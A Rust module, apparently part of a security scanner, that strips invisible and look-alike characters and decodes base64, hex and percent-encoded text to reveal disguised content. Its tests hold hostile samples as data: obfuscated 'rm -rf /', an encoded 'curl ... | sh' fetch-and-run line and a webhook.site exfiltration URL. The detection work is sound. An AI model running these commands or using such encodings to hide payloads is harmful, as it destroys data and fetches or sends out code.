//! Other readings of a text: what it says once disguises are taken off.

use unicode_normalization::{IsNormalized, UnicodeNormalization as _, is_nfkc_quick};

use crate::value::encoding::decode_base64;
use crate::value::source::is_unshowable;

/// Shortest text that is tried as base64 or hexadecimal, in bytes.
const LEAST_ENCODED: usize = 24;
/// Longest text that is decoded, in bytes.
const MOST_ENCODED: usize = 1024 * 1024;

/// The bytes of base64 in either alphabet, and of hexadecimal.
const ENCODES: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = matches!(byte as u8, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'+' | b'/' | b'-' | b'_' | b'=' | b'\n' | b'\r');
        byte += 1;
    }
    table
};

/// The readings of a text that differ from the text: without invisible and look-alike characters, and
/// decoded where it is wholly base64, hexadecimal or percent-encoded text.
pub fn views(text: &str) -> Vec<String> {
    let mut views = Vec::new();
    if !text.is_ascii() && !is_plain(text) {
        let plain: String = text.chars().filter(|character| !is_invisible(*character)).nfkc().collect();
        if plain != text {
            views.push(plain);
        }
    }
    if LEAST_ENCODED <= text.len() && text.len() <= MOST_ENCODED {
        views.extend(decoded(text));
    }
    views
}

/// Returns true if it is certain that nothing in the text is invisible or looks like something else.
fn is_plain(text: &str) -> bool {
    is_nfkc_quick(text.chars()) == IsNormalized::Yes && !text.chars().any(is_invisible)
}

/// White space that shows is kept; the rest of what cannot be shown is left out.
fn is_invisible(character: char) -> bool {
    is_unshowable(character) && !matches!(character, '\n' | '\r' | '\t')
}

fn decoded(text: &str) -> Option<String> {
    let is_encoded = |at: usize| text.as_bytes().get(at + 1..at + 3).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit));
    if memchr::memchr_iter(b'%', text.as_bytes()).any(is_encoded) {
        return percent(text);
    }
    let trimmed = text.trim();
    if !trimmed.bytes().all(|byte| ENCODES[usize::from(byte)]) {
        return None;
    }
    if trimmed.bytes().all(|byte| byte.is_ascii_hexdigit()) && trimmed.len().is_multiple_of(2) {
        let bytes = trimmed.as_bytes().chunks_exact(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok());
        return printable(bytes.collect::<Option<Vec<u8>>>()?);
    }
    printable(decode_base64(trimmed)?)
}

fn percent(text: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&byte, after)) = rest.split_first() {
        let digits = after.get(..2).and_then(|digits| std::str::from_utf8(digits).ok());
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(decoded) if byte == b'%' => {
                bytes.push(decoded);
                rest = after.get(2..)?;
            }
            Some(_) | None => {
                bytes.push(byte);
                rest = after;
            }
        }
    }
    String::from_utf8(bytes).ok()
}

/// The bytes as text, if that is what they are: all UTF-8, and no controls but white space.
fn printable(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let is_text = text.chars().all(|character| !character.is_control() || character.is_whitespace());
    (!text.is_empty() && is_text).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disguises_are_taken_off() {
        for (text, expected) in [
            ("r\u{200b}m -rf /", "rm -rf /"),
            ("ｒｍ -rf /", "rm -rf /"),
            ("Y3VybCBodHRwczovL2EuYi9jIHwgc2g=", "curl https://a.b/c | sh"),
            ("6375726c2068747470733a2f2f612e622f63", "curl https://a.b/c"),
            ("https%3A%2F%2Fwebhook.site%2Fabc", "https://webhook.site/abc"),
        ] {
            assert_eq!(views(text), [expected], "{text}");
        }
    }

    #[test]
    fn plain_text_has_no_other_reading() {
        for text in ["rm -rf /", "a plain sentence of some length, 100 %", "aGVsbG8=", "abcdefghijklmnopqrstuvwxyzabcd"] {
            assert_eq!(views(text), Vec::<String>::new(), "{text}");
        }
    }
}
